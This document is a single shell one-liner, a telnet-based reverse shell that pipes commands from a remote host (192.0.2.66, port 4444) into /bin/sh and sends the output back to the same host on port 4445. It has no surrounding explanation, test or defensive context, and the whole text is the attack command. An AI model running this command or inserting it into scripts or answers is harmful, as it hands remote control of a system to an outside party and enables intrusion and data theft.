telnet 192.0.2.66 4444 | /bin/sh | telnet 192.0.2.66 4445
